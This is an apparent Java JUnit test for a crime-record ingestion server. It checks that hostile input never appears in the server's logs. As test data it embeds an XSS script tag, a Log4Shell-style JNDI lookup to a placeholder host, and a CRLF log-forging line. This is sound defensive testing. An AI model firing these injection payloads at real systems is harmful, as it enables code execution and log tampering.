package org.trackmycrime.examples.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.trackmycrime.examples.reliability.CrashRecoveryTest.backlog;
import static org.trackmycrime.examples.reliability.CrashRecoveryTest.count;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Record events carrying hostile text (HTML, script, CRLF with a forged log line, a JNDI lookup) in
 * names and free-text fields, some of them valid and applied, some refused for the hostile value
 * itself: the server's whole output (stdout and stderr) holds none of that text, and no forged
 * line.
 */
class HostileTextLogTest {
  private static final String SCRIPT = "<script>alert('tmc-xss-marker')</script>";
  private static final String JNDI = "${jndi:ldap://tmc-jndi-marker.example/a}";
  private static final String FORGED = "\r\n2026-01-01 00:00:00 INFO FORGED-LOG-LINE tmc-forged";
  private static final String NAME = "Hostile<b>Namemarker</b>";
  private static final List<String> MARKERS =
      List.of(
          "tmc-xss-marker",
          "tmc-jndi-marker",
          "FORGED-LOG-LINE",
          "tmc-forged",
          "Namemarker",
          "jndi:",
          "<script",
          "Lee Grant",
          "CCTV",
          "hostile-mail");

  @TempDir Path dir;

  @Test
  void hostileTextInRecordsIsNeverLogged() throws Exception {
    GreenMail smtp = new GreenMail(new ServerSetup(ServerProcess.freePort(), "127.0.0.1", "smtp"));
    smtp.start();
    Path drop = Files.createDirectories(dir.resolve("drop"));
    Path log = dir.resolve("server.log");
    Instant at = Instant.now().minusSeconds(7200);
    List<ObjectNode> events = new ArrayList<>();
    // applied: hostile text where free text and names are allowed
    List<ObjectNode> crime = CrashRecoveryTest.crimeEvents(0, at);
    ObjectNode recorded = (ObjectNode) crime.get(0).get("data");
    ((ObjectNode) recorded.get("offence")).put("category", "Theft " + SCRIPT + FORGED);
    ObjectNode victim = (ObjectNode) recorded.get("victims").get(0);
    victim.put("givenName", NAME + FORGED);
    victim.put("familyName", JNDI);
    victim.put("email", "hostile-mail@example.org");
    ((ObjectNode) crime.get(3).get("data")).putArray("names").add(SCRIPT).add(JNDI + FORGED);
    ((ObjectNode) crime.get(5).get("data"))
        .put("text", "Lee Grant " + SCRIPT + FORGED + " " + JNDI + " CCTV");
    events.addAll(crime);
    // refused: the hostile text is the invalid value itself
    ObjectNode badRef = CrashRecoveryTest.crimeEvents(1, at).get(0);
    badRef.put("crimeReference", "CR/" + SCRIPT + FORGED);
    events.add(badRef);
    ObjectNode badType = CrashRecoveryTest.crimeEvents(2, at).get(0);
    badType.put("type", "CRIME_RECORDED" + FORGED + JNDI);
    events.add(badType);
    ObjectNode badEmail = CrashRecoveryTest.crimeEvents(3, at).get(0);
    ((ObjectNode) badEmail.get("data").get("victims").get(0))
        .put("email", "hostile-mail" + FORGED + JNDI + "@example.org");
    events.add(badEmail);
    CrashRecoveryTest.writeEvents(drop, drop.resolve("0001-hostile.jsonl"), events);
    Files.writeString(
        drop.resolve("0002-hostile.jsonl"), "{\"eventId\": \"" + SCRIPT + FORGED + JNDI + "\n");

    Map<String, String> env = CrashRecoveryTest.baseEnvironment(dir, drop);
    env.put("TMC_SMTP_HOST", "127.0.0.1");
    env.put("TMC_SMTP_PORT", Integer.toString(smtp.getSmtp().getPort()));
    env.put("TMC_SMTP_FROM", "updates@crash-force.example");
    try (ServerProcess server = ServerProcess.start(env, log)) {
      ServerProcess.await(
          "both files processed and the alerts sent",
          Duration.ofMinutes(2),
          () ->
              Files.exists(drop.resolve("processed").resolve("0001-hostile.jsonl"))
                  && Files.exists(drop.resolve("processed").resolve("0002-hostile.jsonl"))
                  && backlog(server) == 0);
      assertThat(server.stop()).isIn(0, 143);
      assertThat(smtp.getReceivedMessages()).as("the victim was alerted").isNotEmpty();
    } finally {
      smtp.stop();
    }
    String output = Files.readString(log);
    assertThat(output).contains("reference server stopped");
    for (String marker : MARKERS) {
      assertThat(output).as("the server's output must not hold %s", marker).doesNotContain(marker);
    }
    try (Connection c = DriverManager.getConnection(env.get("TMC_DB_URL"), "sa", "")) {
      assertThat(
              count(
                  c,
                  "SELECT COUNT(*) FROM tmc_ingested_event WHERE event_id IN ('CR-000000-1',"
                      + " 'CR-000000-6')"))
          .as("the crime with hostile names and the update with hostile text applied")
          .isEqualTo(2);
      assertThat(count(c, "SELECT COUNT(*) FROM tmc_rejected_event"))
          .as("refused")
          .isGreaterThanOrEqualTo(2);
    }
  }
}
